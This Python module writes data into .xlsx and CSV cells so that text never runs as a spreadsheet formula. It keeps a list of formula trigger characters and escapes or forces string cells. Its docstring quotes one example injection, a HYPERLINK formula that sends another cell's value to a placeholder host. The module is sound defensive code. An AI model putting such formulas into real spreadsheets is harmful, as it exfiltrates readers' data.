"""Cells written from data into a spreadsheet: text stays text, numbers stay numbers.

A spreadsheet evaluates a cell that starts with "=" as a formula, and a CSV file opened in
Excel also treats a leading "+", "-" or "@" (and a tab or carriage return before them) as
the start of one. A commune or person name such as ``=HYPERLINK("http://x/?a="&B2,"x")``
would then run in the reader's Excel, reading or sending other cells (formula or CSV
injection, OWASP). Every cell written from data in the dashboard's downloads
(``ui.downloads``) and the briefing's annex (``reports.xlsx_annex``) goes through here:

- in .xlsx, text is stored as a string cell (``data_type = "s"``; openpyxl would otherwise
  turn a string that starts with "=" into a formula), which Excel shows as it is and never
  evaluates; characters an .xlsx cannot hold (control characters) are dropped;
- in CSV, text that starts with a trigger character gets a leading apostrophe (``'=…``), the
  OWASP rule; Excel shows the apostrophe, a formula never runs;
- numbers are numeric cells, never text: whole numbers as integers (838, not 838.0), so a
  real negative number (−5) stays a number and is not escaped.
"""

from __future__ import annotations

import math
import numbers
from datetime import date, datetime
from decimal import Decimal
from typing import Literal

import pandas as pd
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

# What a spreadsheet may read as the start of a formula (OWASP CSV injection), and the
# full-width forms that some Excel input methods turn into them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
ESCAPE = "'"  # the prefix that makes Excel show the cell as text

Kind = Literal["empty", "int", "float", "bool", "date", "text"]


def is_missing(value: object) -> bool:
    """None, NaN, NaT and pandas' NA: an empty cell."""
    if value is None:
        return True
    try:
        return bool(pd.isna(value))  # type: ignore[call-overload]
    except (TypeError, ValueError):  # a list or array is not a scalar: not missing
        return False


def as_number(value: object) -> int | float | None:
    """``value`` as a Python number (integral values as int), or None when it is not one.

    Booleans are not numbers here; numpy and Decimal values are converted.
    """
    if isinstance(value, bool) or type(value).__name__ == "bool_" or is_missing(value):
        return None
    if isinstance(value, numbers.Integral):
        return int(value)
    if isinstance(value, Decimal | numbers.Real):
        number = float(value)
        if not math.isfinite(number):
            return None
        return int(number) if number.is_integer() else number
    return None


def clean_text(value: object) -> str:
    """``value`` as text an .xlsx cell can hold (XML forbids most control characters)."""
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))


def put_text(cell: Cell, value: object) -> None:
    """Write ``value`` into ``cell`` as a string cell: shown as typed, never a formula."""
    cell.value = clean_text(value)
    cell.data_type = "s"


def put_value(cell: Cell, value: object) -> Kind:
    """Write one value from data into ``cell``: a number, a date, a boolean or text.

    Returns what was written, so the caller can give numeric and date cells a format.
    """
    if is_missing(value):
        return "empty"
    if isinstance(value, bool) or type(value).__name__ == "bool_":
        cell.value = bool(value)
        return "bool"
    number = as_number(value)
    if number is not None:
        cell.value = number
        return "int" if isinstance(number, int) else "float"
    if isinstance(value, pd.Timestamp):
        value = value.to_pydatetime()
    if isinstance(value, datetime):
        cell.value = value.replace(tzinfo=None)  # Excel has no time zones
        return "date"
    if isinstance(value, date):
        cell.value = value
        return "date"
    put_text(cell, value)
    return "text"


def csv_text(value: object) -> str:
    """Text for a CSV cell: a leading formula trigger is neutralised with an apostrophe."""
    text = str(value)
    return ESCAPE + text if text.startswith(FORMULA_TRIGGERS) else text
